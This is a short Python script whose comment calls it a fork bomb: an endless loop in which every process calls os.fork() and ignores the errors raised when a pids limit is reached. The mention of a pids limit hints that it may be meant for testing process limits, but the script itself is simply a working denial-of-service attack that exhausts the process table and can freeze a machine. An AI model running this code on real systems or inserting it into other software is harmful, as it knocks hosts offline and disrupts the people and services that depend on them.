# Fork bomb: every process forks forever; failures (EAGAIN under the pids limit) are ignored.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
